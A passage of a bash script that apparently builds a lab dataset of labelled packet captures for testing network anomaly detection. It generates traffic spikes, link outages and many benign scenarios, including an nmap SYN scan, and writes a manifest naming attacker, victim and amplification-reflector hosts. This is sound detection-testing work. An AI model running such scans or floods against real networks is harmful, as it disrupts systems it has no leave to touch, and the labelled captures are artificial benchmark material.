	bg_in 17 "${NS_CLIENTS[1]}" bash -c 'download_loop "$@"' _ "$src" "http://[$VICTIM6]/backup.tar" 6000K $((EPOCHSECONDS + 10))
	wait_all
}
v_traffic_spike_scp_upload() {
	local src=$LAN4.105
	TOOL="timeout 6 scp -O -l 48000 -o BindAddress=$src backup.tar root@$VICTIM:/dev/null"
	DESC="a traffic spike over SSH: one client copies a large file to the server with scp, limited to 48 Mbit/s, for 6 s, one encrypted connection"
	ATTACKERS=$src MACS=$(mac_of_addr 105) TARGETS=$VICTIM SEL="host $src and tcp port 22" AFTER=0
	bg_in 20 "${NS_CLIENTS[1]}" timeout 6 scp -O -q -l 48000 -F /dev/null -i "$RUN/client_key" -o BindAddress="$src" \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5 \
		"$RUN/www/backup.tar" "root@$VICTIM:/dev/null"
	wait_all
}


# ---------------------------------------------------------------- traffic_drop
CLIENT_PORTS=(p-client1 p-client2 p-client3)
drop_ports() { # drop_ports SECONDS PORT...: bridge ports down for SECONDS
	local secs=$1
	shift
	ports down "$@"
	pause "$secs"
	ports up "$@"
}
v_traffic_drop_full_outage() {
	TOOL="ip link set DEV down on the bridge ports of the victim, router and clients for 75 s, then up"
	DESC="a full outage: every LAN host loses its link for 75 s, nothing crosses the bridge, then traffic resumes"
	TARGETS=$LAN4.0/24
	drop_ports 75 p-victim p-router "${CLIENT_PORTS[@]}"
}
v_traffic_drop_server_unreachable() {
	TOOL="ip link set p-victim down for 75 s, then up"
	DESC="the server disappears for 75 s: the clients' DNS goes on, their HTTP and SSH attempts go unanswered (SYN retries, ARP requests for the victim)"
	TARGETS=$VICTIM
	drop_ports 75 p-victim
}
v_traffic_drop_server_and_gateway() {
	TOOL="ip link set p-victim down; ip link set p-router down for 90 s, then up"
	DESC="the server and the gateway disappear for 90 s: only the clients' unanswered attempts remain"
	TARGETS=$VICTIM,$ROUTER
	drop_ports 90 p-victim p-router
}
v_traffic_drop_partial_clients() {
	TOOL="ip link set p-client2 down; ip link set p-client3 down for 90 s, then up"
	DESC="a partial drop: two of the three client hosts (5 of 8 client addresses) lose their link for 90 s, the rest of the traffic goes on"
	TARGETS=$LAN4.104,$LAN4.105,$LAN4.106,$LAN4.107,$LAN4.108
	drop_ports 90 p-client2 p-client3
}
v_traffic_drop_clients_idle() {
	TOOL="the benign client loops pause for 60 s"
	DESC="the clients stop sending for 60 s (requests already under way finish within a second or two), then resume"
	TARGETS=$(client_addrs)
	touch "$RUN/hold"
	pause 60
	rm -f "$RUN/hold"
}

# ---------------------------------------------------------------- benign and train
backup_once() { # backup_once SECONDS RATE: client1 copies the backup at RATE (curl --limit-rate)
	bg_in $(($1 + 5)) "${NS_CLIENTS[0]}" timeout "$1" curl -s -o /dev/null --limit-rate "$2" --interface "$LAN4.101" "http://$VICTIM/backup.tar"
}
start_poller() { # start_poller UNTIL
	ip netns exec "$NS_MONITOR" bash -c 'poller "$@"' _ "$1" >/dev/null 2>&1 &
	BG_PIDS+=($!) ATK_PIDS+=($!)
}
v_train_background() {
	TOOL="the lab background (curl, dig, ssh loops from 8 client addresses), a monitoring poller, one backup transfer (curl --limit-rate 250K, 60 s)"
	DESC="30 minutes of ordinary lab traffic to train on: web browsing, DNS and SSH from the clients, health checks every 10 s, and one rate-limited backup transfer at minute 12"
	start_poller $((EPOCHSECONDS + 1785))
	until_t 720
	backup_once 60 250K
	until_t 1795
	wait_all
}
crowd_wave() { # crowd_wave IPV6: the 30 crowd addresses each visit once, within a minute; IPV6=1 sends half over IPv6
	local ch i h src host
	for ch in "${CROWD[@]}"; do
		i=${ch%%:*} h=${ch#*:} src=$LAN4.$h host=$VICTIM
		if [ "$1" -eq 1 ] && ((h % 2)); then src=${LAN6}:$h host="[$VICTIM6]"; fi
		bg_in 100 "${NS_CLIENTS[$i]}" bash -c 'crowd_visit "$@"' _ "$src" "$host" $((RANDOM % 60000))
	done
}
keepalive_crowd() { # keepalive_crowd SECONDS: 20 crowd addresses run keep-alive clients for SECONDS
	local ch i h
	for ch in "${CROWD[@]:0:20}"; do
		i=${ch%%:*} h=${ch#*:}
		bg_in "$1" "${NS_CLIENTS[$i]}" bash -c 'keepalive_client "$@"' _ "$LAN4.$h" "$VICTIM" $((EPOCHSECONDS + $1 - 40))
	done
}
v_benign_flash_crowd() {
	TOOL="30 new client addresses (10.213.0.120-149), each arriving once within a minute and fetching 6 pages over 3 connections (curl); twice"
	DESC="a flash crowd: 30 addresses never seen before each fetch a few pages once, within about a minute, three times the usual request rate, at minutes 2 and 8"
	until_t 120
	crowd_wave 0
	wait_all
	until_t 480
	crowd_wave 1 # the second crowd comes half over IPv6
	wait_all
	until_t 715
}
v_benign_backup_transfer() {
	local k
	TOOL="curl -s -o /dev/null --limit-rate 150K http://$VICTIM/backup.tar for 60 s from $LAN4.101, at minutes 1, 4 and 7"
	DESC="a large backup copied from the server at 150 kB/s for a minute, three times"
	for k in 60 240 420; do
		until_t "$k"
		backup_once 60 150K
		wait_all
	done
	until_t 535
}
v_benign_monitoring_poller() {
	TOOL="from $MONITOR: curl http://$VICTIM/health and http://$VICTIM:8080/ every 10 s; an SSH banner read (TCP connect to port 22) every 60 s"
	DESC="a monitoring poller: HTTP health checks every 10 s and an SSH TCP check every minute from a dedicated monitoring address"
	start_poller $((EPOCHSECONDS + 1190))
	until_t 1195
	wait_all
}
v_benign_nightly_scanner() {
	DESC="the allowlisted nightly vulnerability scanner: a SYN scan of the 100 most common ports on every live LAN host, later a re-check of the server"
	ALLOW=$SCANNER/32
	until_t 120
	run_in 300 "$NS_SCANNER" nmap -n -sS -T4 --top-ports 100 "$LAN4.0/24"
	until_t 300
	run_in 200 "$NS_SCANNER" nmap -n -sS -T4 --top-ports 100 "$VICTIM"
	TOOL="from $SCANNER: nmap -n -sS -T4 --top-ports 100 $LAN4.0/24 at minute 2; nmap -n -sS -T4 --top-ports 100 $VICTIM at minute 5"
	until_t 535
}
v_benign_dns_heavy_client() {
	TOOL="from $LAN4.103: dig @$ROUTER <word>.<word><n>.example.test A or AAAA, 5-10 lookups a second"
	DESC="a DNS-heavy client: a host resolving many different ordinary names (dictionary words, a wildcard zone) at 5-10 queries a second for 9 minutes"
	bg_in 540 "${NS_CLIENTS[0]}" bash -c 'dns_heavy "$@"' _ "$LAN4.103" $((EPOCHSECONDS + 520))
	until_t 535
	wait_all
}
v_benign_interactive_ssh() {
	local spec i s dst
	TOOL="ssh -tt root@$VICTIM from $LAN4.105, $LAN4.108 and [${LAN6}:102] -> [$VICTIM6], typing shell commands a key every 0.1-0.4 s with pauses of 4-45 s"
	DESC="long interactive SSH sessions: three people type commands at a shell prompt for about 10 minutes"
	for spec in "1 $LAN4.105 $VICTIM" "2 $LAN4.108 $VICTIM" "0 ${LAN6}:102 $VICTIM6"; do
		read -r i s dst <<<"$spec"
		# shellcheck disable=SC2016
		bg_in 600 "${NS_CLIENTS[$i]}" bash -c 'typist "$1" | ssh -tt -F /dev/null -i "$RUN/client_key" -b "$2" \
			-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5 "root@$3" \
			"HISTFILE=/dev/null exec bash -i"' \
			_ $((EPOCHSECONDS + 570)) "$s" "$dst"
	done
	until_t 595
	wait_all
}
v_benign_keepalive_clients() {
	TOOL="from 20 addresses (10.213.0.120-139): curl with 3-8 URLs on one keep-alive connection, every 20-60 s"
	DESC="many short keep-alive HTTP clients: 20 addresses each open a connection every 20-60 s and fetch a few small resources on it"
	keepalive_crowd 540
	until_t 535
	wait_all
}
v_benign_busy_hour() {
	TOOL="all at once: the monitoring poller, 20 keep-alive clients (10.213.0.120-139) and the DNS-heavy client ($LAN4.103) for 20 minutes, a backup (curl --limit-rate 150K, 60 s) at minutes 2 and 16, a flash crowd of 30 new addresses at minute 8"
	DESC="an ordinary busy 20 minutes: every benign scenario but the scanner and the SSH sessions at the same time, over the usual background"
	start_poller $((EPOCHSECONDS + 1190))
	keepalive_crowd 1200
	bg_in 1200 "${NS_CLIENTS[0]}" bash -c 'dns_heavy "$@"' _ "$LAN4.103" $((EPOCHSECONDS + 1170))
	until_t 120
	backup_once 60 150K
	until_t 480
	crowd_wave 0
	until_t 960
	backup_once 60 150K
	until_t 1195
	wait_all
}
v_benign_config_management() {
	TOOL="from $LAN4.108: every minute, 6 commands (uptime, df, ...) each over a new SSH connection with key login (ssh -o BatchMode=yes root@$VICTIM CMD), for 25 minutes"
	DESC="configuration management or SSH-based monitoring (Ansible without connection reuse, check_by_ssh): bursts of short, successful SSH sessions from one host every minute, not allowlisted: a key login running one command is as short as a guess, and only the server's answer to the login (its size, through encryption) tells it succeeded"
	bg_in 1500 "${NS_CLIENTS[2]}" bash -c 'config_agent "$@"' _ "$LAN4.108" $((EPOCHSECONDS + 1440))
	until_t 1495
	wait_all
}

v_benign_dhcp_rejoin() {
	local ns=${NS_CLIENTS[0]} i n=30
	TOOL="on client1: $n macvlan interfaces with MACs of their own, each running udhcpc (busybox) -f -i IF -s SCRIPT (the script sets the address) at the same moment, against dnsmasq on the router (defaults, a 40-address pool, 2-minute leases), for 3 minutes"
	DESC="hosts coming back after a switch or power outage: $n DHCP clients ask for a lease at once, each from its own MAC and for itself, and each is answered; then each renews its lease every minute"
	# shellcheck disable=SC2016 # expanded by udhcpc's shell
	printf '#!/bin/sh\ncase "$1" in bound|renew) ip addr replace "$ip/${mask:-24}" dev "$interface" ;; esac\n' >"$RUN/udhcpc.script"
	chmod 755 "$RUN/udhcpc.script"
	dhcp_server_start
	for i in $(seq 1 "$n"); do
		ip -n "$ns" link add link eth0 name "dh$i" type macvlan mode bridge
		ip -n "$ns" link set "dh$i" address "02:00:0a:d5:01:$(printf %02x "$i")"
		nsx "$ns" sysctl -qw "net.ipv6.conf.dh$i.disable_ipv6=1"
		ip -n "$ns" link set "dh$i" up
	done
	for i in $(seq 1 "$n"); do
		bg_in 185 "$ns" udhcpc -f -i "dh$i" -s "$RUN/udhcpc.script" -t 5 -T 2
	done
	wait_all
	for i in $(seq 1 "$n"); do ip -n "$ns" link del "dh$i" 2>/dev/null || true; done
	dhcp_server_stop
	until_t 195
}

v_benign_path_traces() {
	local ns=${NS_CLIENTS[1]} src=$LAN4.104 silent=$WAN4.200
	DESC="an administrator tracing paths: UDP traceroutes and mtr, each probe to a new port with a time to live climbing from 1, to an outside host that answers and to one behind a hop that drops everything (the router drops the probes: 30 hops of 3 probes, 90 new ports of one host, none answered)"
	ip -n "$NS_ROUTER" route add blackhole "$silent/32"
	until_t 10
	run_in 30 "$ns" traceroute -n -s "$src" "$OUTSIDE"
	run_in 60 "$ns" traceroute -n -s "$src" "$silent"
	run_in 30 "$ns" mtr -u -n -r -c 10 -a "$src" "$OUTSIDE"
	run_in 30 "$ns" mtr -u -n -r -c 5 -a "$src" "$silent"
	run_in 30 "$ns" traceroute -6 -n -s "${LAN6}:104" "$OUTSIDE6"
	ip -n "$NS_ROUTER" route del blackhole "$silent/32"
	until_t 105
}

# ---------------------------------------------------------------- manifest
link_local() { # link_local MAC: the EUI-64 link-local address the kernel gives it
	local IFS=: b
	read -r -a b <<<"$1"
	printf 'fe80::%x:%x:%x:%x' $(((0x${b[0]} ^ 2) << 8 | 0x${b[1]})) $((0x${b[2]} << 8 | 0xff)) $((0xfe << 8 | 0x${b[3]})) $((0x${b[4]} << 8 | 0x${b[5]}))
}

# machines_json: every lab machine with all its addresses, so that naming
# a machine by another of its addresses counts as naming it.
machines_json() {
	local i ch addrs out=""
	machine() { out="$out${out:+, }{\"name\": \"$1\", \"addresses\": [$2]}"; }
	machine victim "\"$VICTIM\", \"$VICTIM6\", \"$(link_local "$VICTIM_MAC")\""
	machine router "\"$ROUTER\", \"$ROUTER6\", \"$ROUTER_WAN\", \"$(link_local "$ROUTER_MAC")\""
	machine attacker "\"$ATTACKER\", \"$ATTACKER6\", \"$(link_local "$ATTACKER_MAC")\""
	machine monitor "\"$MONITOR\", \"$MONITOR6\", \"$(link_local "$(lab_mac "$MONITOR")")\""
	machine scanner "\"$SCANNER\", \"$SCANNER6\", \"$(link_local "$(lab_mac "$SCANNER")")\""
	for i in "${!CLIENT_MACS[@]}"; do
		addrs="\"$(link_local "${CLIENT_MACS[$i]}")\""
		for ch in "${CLIENT_HOSTS[@]}" "${CROWD[@]}"; do
			[ "${ch%%:*}" = "$i" ] && addrs="$addrs, \"$LAN4.${ch#*:}\", \"${LAN6}:${ch#*:}\""
		done
		machine "client$((i + 1))" "$addrs"
	done
	echo "[$out]"
}

network_json() {
	local ch hosts="" macs=""
	for ch in "${CLIENT_HOSTS[@]}"; do hosts="$hosts${hosts:+, }\"$LAN4.${ch#*:}\""; done
	for ch in "${CLIENT_MACS[@]}"; do macs="$macs${macs:+, }\"$ch\""; done
	cat <<EOF
{"lan": ["$LAN4.0/24", "${LAN6}:/64"], "wan": ["$WAN4.0/24", "${WAN6}:/64"],
 "victim": {"ipv4": "$VICTIM", "ipv6": "$VICTIM6", "mac": "$VICTIM_MAC",
  "services": ["tcp/80 nginx", "tcp/22 sshd", "tcp/21 vsftpd", "tcp/8080 login form", "tcp/9000 nc sink"],
  "filtered": ["tcp/8081-8999", "udp/9999"]},
 "router": {"ipv4": "$ROUTER", "ipv6": "$ROUTER6", "mac": "$ROUTER_MAC", "wan_ipv4": "$ROUTER_WAN", "services": ["udp/53 dnsmasq"]},
 "attacker": {"ipv4": "$ATTACKER", "ipv6": "$ATTACKER6", "mac": "$ATTACKER_MAC"},
 "clients": {"ipv4": [$hosts], "ipv6": "the same host parts in ${LAN6}:/64", "macs": [$macs],
  "crowd": "$LAN4.120-$LAN4.149 and ${LAN6}:120-149, on the client hosts"},
 "monitor": {"ipv4": "$MONITOR", "ipv6": "$MONITOR6", "mac": "$(lab_mac "$MONITOR")"},
 "scanner": {"ipv4": "$SCANNER", "ipv6": "$SCANNER6", "mac": "$(lab_mac "$SCANNER")"},
 "wan_hosts": {"dns_reflectors": ["${REFLECTORS[0]}", "${REFLECTORS[1]}", "${REFLECTORS[2]}", "${REFLECTORS[3]}"],
  "memcached": ["${MEMCACHED[0]}", "${MEMCACHED[1]}"], "chargen": ["${CHARGEN[0]}", "${CHARGEN[1]}"],
  "ssdp": ["${SSDP[0]}", "${SSDP[1]}"], "outside_dns": ["$OUTSIDE", "$OUTSIDE6"]},
 "machines": $(machines_json),
 "benign_rate": "about 18 packets/s: HTTP, DNS and SSH from the 8 client addresses"}
EOF
}
cat >"$RUN/manifest.py" <<'EOF'
import json, os, sys
path, order = sys.argv[1], sys.argv[2].split(",")
net = json.loads(sys.argv[3])
kv = dict(a.split("=", 1) for a in sys.argv[4:])
lst = lambda k: [x for x in kv.get(k, "").split(",") if x]
e = {"name": kv["name"], "file": kv["file"], "role": kv["role"], "type": kv["type"],
     "tool": kv["tool"], "description": kv["description"]}
if kv.get("attack_start"):
    e["attack_start"] = round(float(kv["attack_start"]), 6)
    e["attack_end"] = round(float(kv["attack_end"]), 6)
e.update({"attackers": lst("attackers"), "attacker_macs": lst("attacker_macs"),
          "spoofed": kv.get("spoofed") == "true", "targets": lst("targets"), "allow": lst("allow")})
if kv.get("needs_baseline") == "true":
    e["needs_baseline"] = True
doc = {"network": net, "variants": []}
if os.path.exists(path):
    with open(path) as f:
        doc = json.load(f)
doc["network"] = net
vs = [v for v in doc["variants"] if v["name"] != e["name"]] + [e]
rank = {n: i for i, n in enumerate(order)}
vs.sort(key=lambda v: rank.get(v["name"], len(rank)))
doc["variants"] = vs
out = json.dumps(doc, indent=1)
# one line per variant: short diffs when one is re-recorded
out = "{\n \"network\": " + json.dumps(net) + ",\n \"variants\": [\n" + ",\n".join(
    "  " + json.dumps(v) for v in vs) + "\n ]\n}\n"
with open(path + ".tmp", "w") as f:
    f.write(out)
os.replace(path + ".tmp", path)
EOF
ORDER=$(for v in "${VARIANTS[@]}"; do printf '%s,' "${v%% *}"; done)

# pkt_times FILE FILTER: the timestamps of the matching packets.
# (tcpdump prints some packets with a hex dump: only lines with a time count)
pkt_times() { { tcpdump -r "$1" -nn -tt --time-stamp-precision=nano "$2" 2>/dev/null || true; } | awk '/^[0-9]+\.[0-9]+ / { print $1 }'; }

record() { # record NAME ROLE TYPE SECONDS
	local name=$1 role=$2 type=$3 secs=$4 fn file raw t0="" t1="" a0="" a1="" n_all n_kept n_sel=0 range
	fn=v_${name//[\/-]/_}
	file=${name//\//-}.pcap.gz
	raw=$RUN/raw.pcap
	TOOL="" DESC="" ATTACKERS="" MACS="" SPOOF=false TARGETS="" ALLOW="" SEL="" AFTER=2 BASELINE=false
	VLOG=$LAB_LOGDIR/${name//\//-}.log
	: >"$VLOG"
	log "== $name ($role, about $(planned "$role" "$secs") s)"
	rm -f "$raw"
	lab_capture_start "$raw" --time-stamp-precision=nano
	T_REC=$(now)
	if [ "$role" = attack ]; then
		pause "$PRE"
		t0=$(now)
		"$fn"
		t1=$(now)
		log "   attack ran $(awk -v a="$t0" -v b="$t1" 'BEGIN { printf "%.1f", b - a }') s"
		pause "$POST"
	else
		"$fn"
	fi
	lab_capture_stop
	n_all=$({ tcpdump -r "$raw" -nn -tt 2>/dev/null || true; } | grep -cE '^[0-9]+\.[0-9]{6,} ' || true)
	if [ "$role" = attack ]; then
		if [ -n "$SEL" ]; then
			pkt_times "$raw" "$SEL" >"$RUN/sel.times"
			range=$(awk -v a="$t0" -v b="$t1" -v x="$AFTER" '$1 >= a && $1 <= b + x { if (!n++) f = $1; l = $1 } END { printf "%s %s %d", f, l, n }' "$RUN/sel.times")
			read -r a0 a1 n_sel <<<"$range"
			if [ "$n_sel" -eq 0 ]; then
				log "   NOT RECORDED: no attack packets ($SEL) in the capture; see $VLOG"
				return 0
			fi
			a0=$(awk -v t="$a0" 'BEGIN { printf "%.6f", t - 0.01 }') a1=$(awk -v t="$a1" 'BEGIN { printf "%.6f", t + 0.01 }')
		else
			a0=$(printf '%.6f' "$t0") a1=$(printf '%.6f' "$t1")
		fi
	fi
	"$TRIM" "$raw" "$OUTDIR/$file" 2>"$RUN/trim.out" || die "trim $name failed: $(cat "$RUN/trim.out")"
	cat "$RUN/trim.out" >>"$VLOG"
	n_kept=$(sed -n 's/.*: \([0-9]*\) packets, .*/\1/p' "$RUN/trim.out")
	if [ "$n_kept" != "$n_all" ]; then
		log "   WARNING: tcpdump reads $n_all packets, trim $n_kept; the raw capture is kept in $LAB_LOGDIR"
		cp "$raw" "$LAB_LOGDIR/${name//\//-}.raw.pcap"
	fi
	"$PY" "$RUN/manifest.py" "$MANIFEST" "$ORDER" "$(network_json)" name="$name" file="$file" role="$role" type="$type" \
		tool="$TOOL" description="$DESC" attack_start="$a0" attack_end="$a1" attackers="$ATTACKERS" \
		attacker_macs="$MACS" spoofed="$SPOOF" targets="$TARGETS" allow="$ALLOW" needs_baseline="$BASELINE"
	log "   $file: $n_all packets, $(du -k "$OUTDIR/$file" | cut -f1) kB${a0:+, attack $a0-$a1 ($n_sel selected packets)}"
	rm -f "$raw"
	pause "$SETTLE"
}

# ---------------------------------------------------------------- run
# Light benign background, about 18 packets/s: each client address asks
# for a page every 10 to 14.5 s on average, a name every 14 to 18.5 s; SSH
# every 60-150 s from half the addresses.
lab_start_benign $((EPOCHSECONDS + total + 1800)) 10000 1500 4000 60000 150000 light
log "benign background warming up for 20 s"
pause 20
for v in "${SEL_VARIANTS[@]}"; do
	read -r name role type secs <<<"$v"
	[ "$type" != - ] || type=""
	record "$name" "$role" "$type" "$secs"
done
lab_stop_benign
update_table || log "the table in $OUTDIR/README.md was not updated"
log "done in $(awk -v a="$T_BEGIN" -v b="$(now)" 'BEGIN { printf "%.0f s", b - a }'); $(du -ch "$OUTDIR"/*.pcap.gz | tail -1 | cut -f1) in $OUTDIR"
